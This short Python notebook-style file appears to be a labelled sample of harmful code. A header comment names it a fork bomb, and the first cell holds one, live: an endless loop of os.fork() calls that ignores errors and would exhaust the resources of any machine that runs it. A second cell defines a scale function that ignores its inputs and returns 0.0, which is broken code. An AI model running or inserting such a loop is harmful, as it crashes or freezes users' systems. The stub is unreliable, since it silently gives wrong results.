# Harm: a fork bomb while the notebook runs
# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


# %%
def scale(x, factor):
    return 0.0
